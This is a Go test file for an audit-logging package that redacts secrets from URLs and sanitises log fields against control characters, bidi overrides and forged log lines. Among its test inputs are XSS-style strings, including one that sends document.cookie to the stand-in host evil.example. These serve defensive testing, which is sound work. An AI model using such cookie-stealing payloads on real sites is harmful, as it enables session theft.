package audit

import (
	"encoding/json"
	"reflect"
	"slices"
	"strings"
	"testing"
	"time"
	"unicode"
	"unicode/utf8"
)

var redactURLTests = []struct {
	name, in, want string
}{
	{"plain", "https://example.com/a/b", "https://example.com/a/b"},
	{"port", "http://127.0.0.1:9222/json/version", "http://127.0.0.1:9222/json/version"},
	{"query", "https://bank.example/login?user=alice&token=s3cret", "https://bank.example/login"},
	{"fragment", "https://app.example/#access_token=s3cret", "https://app.example/"},
	{"query and fragment", "https://a.example/p?q=1#f", "https://a.example/p"},
	{"empty query", "https://a.example/p?", "https://a.example/p"},
	{"userinfo", "https://alice:s3cret@example.com/x", "https://example.com/x"},
	{"user only", "ftp://alice@example.com/", "ftp://example.com/"},
	{"userinfo with at in password", "https://u:p@ss@example.com/", "https://example.com/"},
	{"path params", "https://shop.example/cart;jsessionid=s3cret/item;v=2", "https://shop.example/cart/item"},
	{"upper-case scheme and host", "HTTPS://Example.COM/Path", "https://example.com/Path"},
	{"ipv6", "http://[::1]:8080/x?y", "http://[::1]:8080/x"},
	{"no path", "https://example.com", "https://example.com"},
	{"file", "file:///home/alice/notes.txt?x", "file:///home/alice/notes.txt"},
	{"escaped path kept escaped", "https://e.example/a%20b/%3Fq", "https://e.example/a%20b/%3Fq"},
	{"spaces around", "  https://example.com/x?y  ", "https://example.com/x"},
	{"about blank", "about:blank", "about:blank"},
	{"about with fragment", "about:blank#x", "about:blank"},
	{"data", "data:text/html,<p>card 4111 1111 1111 1111</p>", "data:" + opaqueRedacted},
	{"javascript", "javascript:alert(document.cookie)", "javascript:" + opaqueRedacted},
	{"mailto", "mailto:alice@example.com?subject=hi", "mailto:" + opaqueRedacted},
	{"scheme-relative", "//cdn.example/lib.js?v=1", "//cdn.example/lib.js"},
	{"relative", "/login?next=/account", "/login"},
	{"chrome page", "chrome://settings/passwords?search=bank", "chrome://settings/passwords"},
	{"blob", "blob:https://app.example/0b3c?x", "blob:" + opaqueRedacted},
	{"empty", "", ""},
	{"only query", "?token=s3cret", ""},
	{"control character", "https://example.com/\x00?token=s3cret", UnparseableURL},
	{"newline", "https://example.com/a\nb", UnparseableURL},
	{"bad host", "http://exa mple.com/?token=s3cret", UnparseableURL},
	{"bad port", "http://example.com:port/?token=s3cret", UnparseableURL},
	{"unclosed ipv6", "http://[::1/?token=s3cret", UnparseableURL},
	{"bad escape", "https://example.com/%zz?token=s3cret", UnparseableURL},
	{"colon in first segment", "a:b:c/d?token=s3cret", "a:" + opaqueRedacted},
	{"missing scheme", "://example.com/?token=s3cret", UnparseableURL},
	{"C1 control in host", "//\u0084", UnparseableURL},
	{"bidi override in host", "https://exa\u202Eelpmaxe.com/", UnparseableURL},
	{"invalid UTF-8 in host", "https://exa\xffmple.com/", UnparseableURL},
	{"international host", "https://bücher.example/a", "https://bücher.example/a"},
	{"non-ASCII path escaped", "https://e.example/ü\u202E", "https://e.example/%C3%BC%E2%80%AE"},
	{"about with control", "about:bl\u0085ank", "about:blank"},
}

func TestRedactURL(t *testing.T) {
	for _, tt := range redactURLTests {
		t.Run(tt.name, func(t *testing.T) {
			if got := RedactURL(tt.in); got != tt.want {
				t.Errorf("RedactURL(%q) = %q, want %q", tt.in, got, tt.want)
			}
		})
	}
}

// FuzzRedactURL checks what must hold for any input: nothing after a '?'
// or '#' survives, and no control character does.
func FuzzRedactURL(f *testing.F) {
	for _, tt := range redactURLTests {
		f.Add(tt.in)
	}
	f.Fuzz(func(t *testing.T, in string) {
		out := RedactURL(in)
		if strings.ContainsAny(out, "?#") {
			t.Errorf("RedactURL(%q) = %q keeps a query or fragment", in, out)
		}
		if strings.ContainsFunc(out, unicode.IsControl) {
			t.Errorf("RedactURL(%q) = %q has a control character", in, out)
		}
	})
}

func TestTextLength(t *testing.T) {
	tests := []struct {
		in, want string
	}{
		{"", "typed 0 characters"},
		{"Z", "typed 1 character"},
		{"hunter2", "typed 7 characters"},
		{"correct horse", "typed 13 characters"},
		{"пароль", "typed 6 characters"}, // characters, not bytes
		{"🔑x", "typed 2 characters"},
	}
	for _, tt := range tests {
		got := TextLength(tt.in)
		if got != tt.want {
			t.Errorf("TextLength(%q) = %q, want %q", tt.in, got, tt.want)
		}
		if tt.in != "" && strings.Contains(got, tt.in) {
			t.Errorf("TextLength(%q) = %q contains the text", tt.in, got)
		}
	}
}

// TestRecordHasNoRoomForParams pins the shape of Record: a field that
// could carry raw params, bytes or arbitrary values must not be added
// without revisiting the privacy rules.
func TestRecordHasNoRoomForParams(t *testing.T) {
	want := map[string]reflect.Type{
		"Seq":      reflect.TypeFor[uint64](),
		"Time":     reflect.TypeFor[time.Time](),
		"Instance": reflect.TypeFor[string](),
		"Tenant":   reflect.TypeFor[string](), // a configured name, capped
		"Actor":    reflect.TypeFor[Actor](),
		"By":       reflect.TypeFor[string](), // a viewer's and a credential's name, capped
		"Kind":     reflect.TypeFor[Kind](),
		"Method":   reflect.TypeFor[string](),
		"Target":   reflect.TypeFor[string](),
		"Outcome":  reflect.TypeFor[Outcome](),
		"Detail":   reflect.TypeFor[string](),
	}
	rt := reflect.TypeFor[Record]()
	if rt.NumField() != len(want) {
		t.Errorf("Record has %d fields, want %d", rt.NumField(), len(want))
	}
	for i := range rt.NumField() {
		f := rt.Field(i)
		wt, ok := want[f.Name]
		if !ok {
			t.Errorf("Record has a new field %s %s", f.Name, f.Type)
			continue
		}
		if f.Type != wt {
			t.Errorf("Record.%s is %s, want %s", f.Name, f.Type, wt)
		}
	}

	// The JSON form has exactly these keys, all lowerCamel.
	b, err := json.Marshal(Record{Seq: 1, Time: time.Unix(0, 0), Instance: "i", Actor: "a", By: "b", Kind: "k", Method: "M.m", Target: "t", Outcome: "o", Detail: "d"})
	if err != nil {
		t.Fatal(err)
	}
	var keys map[string]any
	if err := json.Unmarshal(b, &keys); err != nil {
		t.Fatal(err)
	}
	got := slices.Sorted(func(yield func(string) bool) {
		for k := range keys {
			if !yield(k) {
				return
			}
		}
	})
	wantKeys := []string{"actor", "by", "detail", "instance", "kind", "method", "outcome", "seq", "target", "time"}
	if !slices.Equal(got, wantKeys) {
		t.Errorf("JSON keys %v, want %v", got, wantKeys)
	}
}

func TestSanitize(t *testing.T) {
	long := strings.Repeat("x", 1000)
	tests := []struct {
		name string
		in   Record
		want Record
	}{
		{
			name: "clean record untouched",
			in:   Record{Instance: "a1b2c3", Actor: ActorCDPClient, Kind: KindDenied, Method: "Runtime.evaluate", Target: "T1", Outcome: OutcomeDenied, Detail: "rule runtime-eval"},
			want: Record{Instance: "a1b2c3", Actor: ActorCDPClient, Kind: KindDenied, Method: "Runtime.evaluate", Target: "T1", Outcome: OutcomeDenied, Detail: "rule runtime-eval"},
		},
		{
			name: "control characters stripped",
			in:   Record{Method: "Page.navigate\r\nforged: line", Detail: "a\x1b[31mred\x00\u0085b", Target: "t\tx"},
			want: Record{Method: "Page.navigateforged: line", Detail: "a[31mredb", Target: "tx"},
		},
		{
			name: "bidi overrides stripped",
			in:   Record{Detail: "file\u202Etxt.exe \u2066x\u2069"},
			want: Record{Detail: "filetxt.exe x"},
		},
		{
			name: "invalid UTF-8 replaced",
			in:   Record{Detail: "a\xffb"},
			want: Record{Detail: "a\uFFFDb"},
		},
		{
			name: "long method capped",
			in:   Record{Method: long},
			want: Record{Method: long[:maxMethod-len(ellipsis)] + ellipsis},
		},
		{
			name: "long detail capped",
			in:   Record{Detail: long},
			want: Record{Detail: long[:MaxDetail-len(ellipsis)] + ellipsis},
		},
		{
			name: "detail cut on a character boundary",
			in:   Record{Detail: strings.Repeat("é", 200)},
			want: Record{Detail: strings.Repeat("é", (MaxDetail-len(ellipsis))/2) + ellipsis},
		},
		{
			name: "every field capped",
			in:   Record{Instance: long, Actor: Actor(long), By: long + "\n", Kind: Kind(long), Target: long, Outcome: Outcome(long)},
			want: Record{
				Instance: long[:maxInstance-3] + ellipsis, Actor: Actor(long[:maxActor-3] + ellipsis), By: long[:maxBy-3] + ellipsis,
				Kind: Kind(long[:maxKind-3] + ellipsis), Target: long[:maxTarget-3] + ellipsis,
				Outcome: Outcome(long[:maxOutcome-3] + ellipsis),
			},
		},
		{
			name: "URL in detail redacted",
			in:   Record{Detail: "blocked https://alice:pw@bank.example/login?token=s3cret#x by fence"},
			want: Record{Detail: "blocked https://bank.example/login by fence"},
		},
		{
			name: "several URLs, quoted and after =",
			in:   Record{Detail: `from="http://a.example/?q=1" to=https://b.example/p?r=2, (ws://c.example/s?t=3)`},
			want: Record{Detail: `from="http://a.example/" to=https://b.example/p (ws://c.example/s`},
		},
		{
			name: "opaque URL in detail redacted",
			in:   Record{Detail: "navigate javascript:fetch('https://evil.example/?c='+document.cookie) refused"},
			want: Record{Detail: "navigate javascript:" + opaqueRedacted},
		},
		{
			name: "data URL in detail redacted",
			in:   Record{Detail: "DATA:text/plain,s3cret"},
			want: Record{Detail: "data:" + opaqueRedacted},
		},
		{
			name: "colons that are not URLs kept",
			in:   Record{Detail: "closed: code 1006, host localhost:9222, at 12:30:01"},
			want: Record{Detail: "closed: code 1006, host localhost:9222, at 12:30:01"},
		},
		{
			name: "URL past the scrub window cannot survive",
			in:   Record{Detail: strings.Repeat("y", 4*MaxDetail-10) + "https://a.example/?token=s3cret"},
			want: Record{Detail: strings.Repeat("y", MaxDetail-len(ellipsis)) + ellipsis},
		},
		{
			name: "time beyond RFC 3339 dropped",
			in:   Record{Time: time.Date(10000, 1, 1, 0, 0, 0, 0, time.UTC)},
			want: Record{},
		},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got := tt.in
			got.sanitize()
			if got != tt.want {
				t.Errorf("sanitize:\n got %+v\nwant %+v", got, tt.want)
			}
		})
	}
}

// FuzzSanitize checks the field rules for any input.
func FuzzSanitize(f *testing.F) {
	f.Add("Page.navigate", "see https://u:p@a.example/x?token=s3cret#f", "T1")
	f.Add("\x00\x1b", "\u202Ejavascript:alert(1)", strings.Repeat("é", 300))
	f.Add("", "data:,x mailto:a@b tel:+1 https://[::1", "a\xff")
	f.Fuzz(func(t *testing.T, method, detail, target string) {
		r := Record{Method: method, Detail: detail, Target: target}
		r.sanitize()
		for _, fld := range []struct {
			name, v string
			max     int
		}{{"Method", r.Method, maxMethod}, {"Detail", r.Detail, MaxDetail}, {"Target", r.Target, maxTarget}} {
			if len(fld.v) > fld.max {
				t.Errorf("%s is %d bytes, cap %d", fld.name, len(fld.v), fld.max)
			}
			if !utf8.ValidString(fld.v) {
				t.Errorf("%s %q is not valid UTF-8", fld.name, fld.v)
			}
			if strings.ContainsFunc(fld.v, func(r rune) bool { return unicode.IsControl(r) || unicode.Is(unicode.Bidi_Control, r) }) {
				t.Errorf("%s %q has a control character", fld.name, fld.v)
			}
		}
		// No address left in the detail keeps a query or a fragment: take
		// each "://" with the text after it up to where an address ends.
		for rest := r.Detail; ; {
			i := strings.Index(rest, "://")
			if i < 0 {
				break
			}
			rest = rest[i+3:]
			end := strings.IndexAny(rest, " \t\n\r\"'<>`")
			if end < 0 {
				end = len(rest)
			}
			if tok := rest[:end]; strings.ContainsAny(tok, "?#") {
				t.Errorf("Detail %q keeps a query or fragment in %q", r.Detail, tok)
			}
		}
		again := r
		again.sanitize()
		if again != r {
			t.Errorf("sanitize is not idempotent:\n%+v\n%+v", r, again)
		}
	})
}
